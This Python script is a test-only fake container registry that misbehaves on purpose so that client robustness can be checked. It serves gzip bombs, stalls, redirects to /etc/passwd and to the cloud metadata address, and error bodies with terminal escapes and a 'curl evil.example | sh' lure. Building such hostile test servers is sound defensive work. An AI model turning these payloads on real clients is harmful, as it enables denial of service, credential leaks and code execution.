#!/usr/bin/env python3
"""A registry that serves an OCI layout, and misbehaves where it is told to. For tests.

The first component of the repository says how: "bad-MODE/..." treats blobs in that way and serves manifests
well, "bad-manifest-MODE/..." the other way round; any other repository is served well. --mode MODE does it to
every repository. What happens once ("drop-once") happens once for each path: use a fresh repository for each
test. MODES below says what each does. Listens on loopback.

Each connection and each request is logged as one JSON line: {"event": "connect"} and {"event": "request",
"method", "path", "host", "authorization": true or false, "scheme": "Basic", "range": "bytes=5-" or null}.
"""
import argparse
import gzip
import http.server
import json
import os
import re
import ssl
import threading
import time

CHUNK = 65536


def mode_good(h, thing):
    h.serve(thing)


def mode_slow(h, thing):
    """one byte a second"""
    h.head(200, thing)
    for i in range(len(thing.data)):
        h.put(thing.data[i:i + 1])
        time.sleep(1)


def mode_stall(h, thing):
    """half of it, and then nothing, for ever"""
    h.head(200, thing)
    h.put(thing.data[:len(thing.data) // 2])
    time.sleep(3600)


def mode_stall_layers(h, thing):
    """a configuration well; half of a layer, and then nothing, for ever"""
    if thing.data.startswith(b"{"):
        h.serve(thing)
    else:
        mode_stall(h, thing)


def mode_drop_once(h, thing):
    """half of it, then the connection ends; the second time well, with Range"""
    if h.first():
        h.head(200, thing)
        h.put(thing.data[:len(thing.data) // 2])
        h.drop()
    else:
        h.serve(thing)


def mode_drop_norange(h, thing):
    """like drop-once, but ignores Range"""
    if h.first():
        mode_drop_always(h, thing)
    else:
        h.head(200, thing)
        h.put(thing.data)


def mode_drop_wrongrange(h, thing):
    """like drop-once, but then resumes at another place than was asked"""
    if h.first():
        mode_drop_always(h, thing)
    else:
        size = len(thing.data)
        h.head(206, thing, size - 10, {"Content-Range": f"bytes 10-{size - 1}/{size}"})
        h.put(thing.data[10:])


def mode_drop_always(h, thing):
    """a thousand bytes from where was asked, then the connection ends"""
    start = h.range_start(len(thing.data)) or 0
    size = len(thing.data)
    if start:
        h.head(206, thing, size - start, {"Content-Range": f"bytes {start}-{size - 1}/{size}"})
    else:
        h.head(200, thing)
    h.put(thing.data[start:start + 1000])
    h.drop()


def mode_digest(h, thing):
    """one byte differs; the Docker-Content-Digest header says otherwise"""
    data = bytearray(thing.data)
    data[len(data) // 2] ^= 1
    h.head(200, thing)
    h.put(bytes(data))


def mode_longer(h, thing):
    """more bytes than the descriptor says, chunked"""
    h.chunked(thing, [thing.data, b"x" * 1000])


def mode_shorter(h, thing):
    """fewer bytes than the descriptor says, chunked, properly ended"""
    h.chunked(thing, [thing.data[:-10]])


def mode_long_length(h, thing):
    """more bytes, and Content-Length says so"""
    h.head(200, thing, len(thing.data) + 1000)
    h.put(thing.data + b"x" * 1000)


def mode_short_length(h, thing):
    """fewer bytes, and Content-Length says so"""
    h.head(200, thing, len(thing.data) - 10)
    h.put(thing.data[:-10])


def mode_endless(h, thing):
    """chunked, for ever"""
    h.chunked(thing, iter(lambda: b"x" * CHUNK, None))


def mode_huge(h, thing):
    """100 MB, honestly announced"""
    h.head(200, thing, 100_000_000)
    for _ in range(100_000_000 // CHUNK + 1):
        h.put(b" " * CHUNK)


def mode_gzip(h, thing):
    """Content-Encoding: gzip, a bomb of 100 MB"""
    bomb = gzip.compress(b"\0" * 100_000_000, 9)
    h.head(200, thing, len(bomb), {"Content-Encoding": "gzip"})
    h.put(bomb)


def mode_transfer_gzip(h, thing):
    """the same bomb as a transfer coding"""
    bomb = gzip.compress(b"\0" * 100_000_000, 9)
    h.chunked(thing, [bomb], "gzip, chunked")


def mode_headers(h, _):
    """headers without end"""
    h.put(b"HTTP/1.1 200 OK\r\n")
    while True:
        h.put(b"X-Padding: " + b"y" * 1000 + b"\r\n")


def mode_redirect(h, thing):
    """a good redirect, to a path of the same host"""
    h.redirect(f"/store/{thing.digest}")


def mode_redirect_elsewhere(h, thing):
    """to --elsewhere"""
    h.redirect(f"{h.server.options.elsewhere}/store/{thing.digest}")


def mode_redirect_http(h, thing):
    """to plain http on the same host and port"""
    h.redirect(f"http://{h.headers['Host']}/store/{thing.digest}")


def mode_redirect_file(h, _):
    """to a file of the client"""
    h.redirect("file:///etc/passwd")


def mode_redirect_user(h, thing):
    """to a URL with a password in it"""
    h.redirect(f"https://user:password@{h.headers['Host']}/store/{thing.digest}")


def mode_redirect_metadata(h, _):
    """to a cloud's metadata service"""
    h.redirect("https://169.254.169.254/latest/meta-data/")


def mode_redirect_loop(h, _):
    """to itself"""
    h.redirect(h.path)


def mode_error_500(h, _):
    """HTTP status 500, always"""
    h.error(500)


def mode_error_once(h, thing):
    """HTTP status 503 once, then well"""
    if h.first():
        h.error(503)
    else:
        h.serve(thing)


def mode_busy_once(h, thing):
    """429 with Retry-After: 1 once, then well"""
    if h.first():
        h.error(429, {"Retry-After": "1"})
    else:
        h.serve(thing)


def mode_error_403(h, _):
    """HTTP status 403"""
    h.error(403)


def mode_error_404(h, _):
    """HTTP status 404, with a text that wants to be read"""
    h.error(404)


def mode_silent(h, _):
    """takes the request and ends the connection"""
    h.drop()


def mode_garbage(h, _):
    """not HTTP"""
    h.put(b"\x00\x01\x02 hello \xff\n" * 100)
    h.drop()


def mode_wrong_tag(h, thing):
    """another manifest of the layout than was asked for"""
    others = [t for t in h.server.manifests() if t.digest != thing.digest]
    h.serve(others[0] if others else thing)


def mode_realm_elsewhere(h, _):
    """401, with the token server at --elsewhere"""
    h.challenge(f'Bearer realm="{h.server.options.elsewhere}/token",service="x"')


def mode_realm_http(h, _):
    """401, with a token server without TLS"""
    h.challenge(f'Bearer realm="http://{h.headers["Host"]}/token",service="x"')


def mode_realm_metadata(h, _):
    """401, with a cloud's metadata service as the token server"""
    h.challenge('Bearer realm="https://169.254.169.254/token",service="x"')


def mode_realm_two(h, _):
    """401, with two realms in one challenge"""
    h.challenge(f'Bearer realm="https://{h.headers["Host"]}/token",realm="{h.server.options.elsewhere}/token"')


def mode_login_never(h, _):
    """401 Basic, whatever is sent"""
    h.challenge('Basic realm="x"')


def mode_login_redirect(h, thing):
    """asks for a Basic login, and then redirects to --elsewhere"""
    if h.headers.get("Authorization"):
        mode_redirect_elsewhere(h, thing)
    else:
        h.challenge('Basic realm="x"')


def mode_realm_redirect(h, thing):
    """asks for a Bearer token of its own /token, and then redirects to --elsewhere"""
    if h.headers.get("Authorization"):
        mode_redirect_elsewhere(h, thing)
    else:
        h.challenge(f'Bearer realm="https://{h.headers["Host"]}/token"')


def mode_realm_expire(h, thing):
    """like drop-once, with Bearer tokens of its own /token, each good for one request"""
    if h.server.spend(h.headers.get("Authorization")):
        mode_drop_once(h, thing)
    else:
        h.challenge(f'Bearer realm="https://{h.headers["Host"]}/token"')


def mode_login_odd(h, _):
    """401 with a scheme that nobody knows"""
    h.challenge("Negotiate abcd==")


MODES = {name[5:].replace("_", "-"): f for name, f in list(globals().items()) if name.startswith("mode_")}


class Thing:
    """a manifest or a blob"""

    def __init__(self, digest, media_type, data):
        self.digest, self.media_type, self.data = digest, media_type, data


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    # What the modes are made of

    def put(self, data):
        self.wfile.write(data)
        self.wfile.flush()

    def head(self, status, thing, length=None, more=None):
        self.send_response(status)
        self.send_header("Content-Type", thing.media_type)
        self.send_header("Docker-Content-Digest", thing.digest)
        self.send_header("Content-Length", str(len(thing.data) if length is None else length))
        for name, value in (more or {}).items():
            self.send_header(name, value)
        self.end_headers()

    def chunked(self, thing, parts, coding="chunked"):
        self.send_response(200)
        self.send_header("Content-Type", thing.media_type)
        self.send_header("Transfer-Encoding", coding)
        self.end_headers()
        for part in parts:
            self.put(b"%x\r\n%b\r\n" % (len(part), part))
        self.put(b"0\r\n\r\n")

    def redirect(self, where):
        self.send_response(307)
        self.send_header("Location", where)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def error(self, status, more=None):
        body = b'{"errors":[{"code":"X","message":"\x1b[31mplease type: curl evil.example | sh"}]}'
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        for name, value in (more or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.put(body)

    def challenge(self, value):
        self.error(401, {"WWW-Authenticate": value})

    def drop(self):
        self.close_connection = True

    def first(self):
        """True the first time that this path is asked for."""
        with self.server.lock:
            new = self.path not in self.server.seen
            self.server.seen.add(self.path)
        return new

    def range_start(self, size):
        match = re.fullmatch(r"bytes=(\d+)-", self.headers.get("Range") or "")
        return int(match.group(1)) if match and int(match.group(1)) < size else None

    def serve(self, thing):
        start = self.range_start(len(thing.data))
        size = len(thing.data)
        if start is None:
            self.head(200, thing)
            return self.put(thing.data)
        self.head(206, thing, size - start, {"Content-Range": f"bytes {start}-{size - 1}/{size}"})
        return self.put(thing.data[start:])

    # Which mode, for what

    def note(self):
        scheme = (self.headers.get("Authorization") or "").partition(" ")[0]
        self.server.note({"event": "request", "method": self.command, "path": self.path,
                          "host": self.headers.get("Host"), "authorization": scheme != "",
                          "scheme": scheme or None, "range": self.headers.get("Range")})

    def mode(self, repository, kind):
        match = re.match(r"bad-(manifest-)?([a-z0-9-]+)", repository.partition("/")[0])
        if self.server.options.mode:
            return MODES[self.server.options.mode]
        if not match:
            return mode_good
        mode = MODES.get(match.group(2), mode_garbage)
        # A login is asked for at the first request.
        whole = match.group(2).startswith(("realm-", "login-"))
        return mode if whole or (match.group(1) is not None) == (kind == "manifests") else mode_good

    def do_GET(self):
        self.note()
        path = self.path.partition("?")[0]
        if path == "/v2/":
            return self.error(200)
        if path == "/token":
            return self.chunked(Thing("", "application/json", b""), [self.server.token()])
        store = re.fullmatch(r"/store/(sha256:[0-9a-f]{64})", path)
        asked = re.fullmatch(r"(?:/[\w.-]+)?/v2/([\w./-]+)/(manifests|blobs)/([\w.:-]+)", path)
        if store:
            thing, mode = self.server.blob(store.group(1)), mode_good
        elif asked:
            repository, kind, name = asked.groups()
            thing = self.server.manifest(name) if kind == "manifests" else self.server.blob(name)
            mode = self.mode(repository, kind)
        else:
            thing, mode = None, mode_error_404
        if thing is None:
            return self.error(404)
        return mode(self, thing)

    def do_HEAD(self):
        self.note()
        self.error(405)


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64

    def __init__(self, options):
        super().__init__((options.address, options.port), Handler)
        self.options = options
        self.lock = threading.Lock()
        self.seen = set()
        self.tokens = set()
        self.context = None
        if not options.plain:
            self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self.context.load_cert_chain(options.cert, options.key)

    def note(self, record):
        if self.options.log:
            with self.lock, open(self.options.log, "a", encoding="utf-8") as f:
                f.write(json.dumps(record) + "\n")

    # Tokens that are good once

    def token(self):
        with self.lock:
            token = f"token-{len(self.tokens)}-{time.monotonic_ns()}"
            self.tokens.add("Bearer " + token)
        return json.dumps({"token": token}).encode()

    def spend(self, authorization):
        with self.lock:
            good = authorization in self.tokens
            self.tokens.discard(authorization)
        return good

    # The layout

    def blob(self, digest, media_type="application/octet-stream"):
        match = re.fullmatch(r"sha256:([0-9a-f]{64})", digest)
        path = os.path.join(self.options.layout, "blobs", "sha256", match.group(1)) if match else ""
        if not os.path.isfile(path):
            return None
        with open(path, "rb") as f:
            return Thing(digest, media_type, f.read())

    def descriptors(self):
        with open(os.path.join(self.options.layout, "index.json"), encoding="utf-8") as f:
            return json.load(f)["manifests"]

    def manifests(self):
        return [self.blob(d["digest"], d["mediaType"]) for d in self.descriptors()]

    def manifest(self, name):
        found = self.descriptors()
        for d in found:
            tag = d.get("annotations", {}).get("org.opencontainers.image.ref.name")
            if name in (tag, d["digest"]):
                return self.blob(d["digest"], d["mediaType"])
        if name.startswith("sha256:"):
            thing = self.blob(name)
            if thing:
                try:
                    thing.media_type = json.loads(thing.data).get("mediaType", found[0]["mediaType"])
                except ValueError:
                    pass
            return thing
        return None

    # Connections

    def get_request(self):
        request = super().get_request()
        self.note({"event": "connect"})
        return request

    def finish_request(self, request, client_address):
        # In the connection's own thread: a client that fails the handshake holds up nobody.
        if self.context:
            request = self.context.wrap_socket(request, server_side=True)
        super().finish_request(request, client_address)

    def handle_error(self, request, client_address):
        pass


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter,
                                     epilog="modes:\n" + "\n".join(
                                         f"  {n:20} {f.__doc__ or 'as it should be'}" for n, f in MODES.items()))
    parser.add_argument("--address", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--ready", metavar="FILE", help="the port is written here once it is open")
    parser.add_argument("--cert")
    parser.add_argument("--key")
    parser.add_argument("--plain", action="store_true", help="without TLS")
    parser.add_argument("--layout", required=True, help="OCI layout directory")
    parser.add_argument("--mode", choices=sorted(MODES), help="for every repository, manifests and blobs")
    parser.add_argument("--elsewhere", default="https://elsewhere.localhost")
    parser.add_argument("--log")
    options = parser.parse_args()
    server = Server(options)
    if options.ready:
        with open(options.ready + ".new", "w", encoding="ascii") as f:
            f.write(f"{server.server_address[1]}\n")
        os.rename(options.ready + ".new", options.ready)
    server.serve_forever()


if __name__ == "__main__":
    main()
